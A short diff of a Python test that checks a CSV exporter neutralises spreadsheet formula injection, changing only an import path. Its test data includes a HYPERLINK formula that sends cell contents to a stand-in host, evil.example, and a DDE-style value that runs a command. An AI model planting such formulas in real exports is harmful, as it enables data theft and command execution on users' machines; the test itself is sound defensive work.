@@ -276,7 +276,7 @@ def test_a_local_ray_instance_gets_a_private_temp_folder_token_auth_and_a_privat
 
 def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised_and_numbers_kept():
     pd = pytest.importorskip("pandas")
-    from gpudoctor.report.export import table_bytes
+    from gpudoctor.tables.export import table_bytes
 
     df = pd.DataFrame({
         "name": ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
